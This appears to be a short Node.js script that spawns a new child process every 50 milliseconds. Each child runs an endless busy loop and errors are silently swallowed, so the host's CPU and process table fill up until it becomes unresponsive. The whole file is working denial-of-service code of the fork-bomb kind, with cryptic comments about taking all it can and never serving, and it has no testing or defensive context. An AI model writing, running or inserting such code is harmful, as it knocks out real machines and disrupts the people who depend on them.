import { spawn } from "node:child_process";

// As many processes as it can have, each of which takes all that it gets; and it never serves.
setInterval(() => {
  const child = spawn(process.execPath, ["-e", "for (;;);"], { stdio: "ignore" });
  child.on("error", () => {}); // it has all that it may have
}, 50);
await new Promise(() => {});
